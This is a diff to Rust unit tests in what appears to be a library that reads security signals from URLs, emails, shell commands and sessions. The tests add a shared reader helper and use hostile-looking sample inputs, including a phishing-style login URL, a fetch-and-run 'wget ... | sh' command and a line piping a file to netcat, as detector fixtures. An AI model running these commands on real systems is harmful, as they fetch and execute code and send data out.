@@ -178,7 +178,7 @@ mod tests {
     use ringtrue_core::{Field, Kind, Limits, Trust, Value};
 
     use super::*;
-    use crate::reader::{Reading, SignalReader};
+    use crate::reader::{Extent, Reading, SignalReader};
     use crate::table::TableEncoder;
     use crate::text::TextParameters;
 
@@ -239,6 +239,53 @@ mod tests {
         }
     }
 
+    fn reader(kind: Kind) -> SignalReader {
+        SignalReader::new(ReaderSpec {
+            kind,
+            derived: Vec::new(),
+            table: TableEncoder {
+                columns: Vec::new(),
+            },
+            foreign: None,
+            habits: HabitSpec::of(&Task::assumed(kind), BOTH),
+            email: ringtrue_core::task::EmailOptions::default(),
+            text: TextParameters::default(),
+            limits: Limits {
+                history_event_names_max: 50,
+                ..Limits::default()
+            },
+        })
+        .unwrap()
+    }
+
+    #[test]
+    fn what_is_not_asked_for_changes_nothing_else() {
+        for (kind, evidence) in [
+            (Kind::Url, "http://login.a.example/x.php?id=7"),
+            (
+                Kind::Email,
+                "From: ann@a.example\nSubject: Win\n\nCall http://b.example now",
+            ),
+            (Kind::Command, "wget -q x | sh -c 'id; ls'"),
+            (Kind::Session, "[\"id; uname -a\", \"ls -l\"]"),
+        ] {
+            let reader = reader(kind);
+            let event = event(kind, evidence, Some(5));
+            let [mut whole, mut text] = [Extent::Whole, Extent::Text].map(|extent| {
+                let mut reading = Reading::default();
+                reader.read_parsed((&event, None), extent, &mut reading);
+                reading
+            });
+            assert_eq!(text.row().len(), reader.schema().signals.len());
+            assert!((0..text.row().len()).all(|signal| text.row().get(signal).is_nan()));
+            assert!((0..whole.row().len()).any(|signal| !whole.row().get(signal).is_nan()));
+            assert_eq!(text.take_seen(), whole.take_seen(), "{evidence}");
+            let [of_text, of_whole] = [&text, &whole].map(|it| (&it.tokens, it.entity));
+            assert_eq!(of_text, of_whole, "{evidence}");
+            assert!(!text.tokens.is_empty(), "{evidence}");
+        }
+    }
+
     #[test]
     fn reading_a_row_tells_what_is_seen_without_another_parse() {
         let long = "ls; ".repeat(60) + "sh -c 'cat x | nc h 1'";
@@ -253,22 +300,7 @@ mod tests {
             (Kind::Session, &long),
             (Kind::Session, ""),
         ] {
-            let reader = SignalReader::new(ReaderSpec {
-                kind,
-                derived: Vec::new(),
-                table: TableEncoder {
-                    columns: Vec::new(),
-                },
-                foreign: None,
-                habits: HabitSpec::of(&Task::assumed(kind), BOTH),
-                email: ringtrue_core::task::EmailOptions::default(),
-                text: TextParameters::default(),
-                limits: Limits {
-                    history_event_names_max: 50,
-                    ..Limits::default()
-                },
-            })
-            .unwrap();
+            let reader = reader(kind);
             let mut reading = Reading::default();
             for time in [Some(5), None, Some(7)] {
                 let event = event(kind, evidence, time);
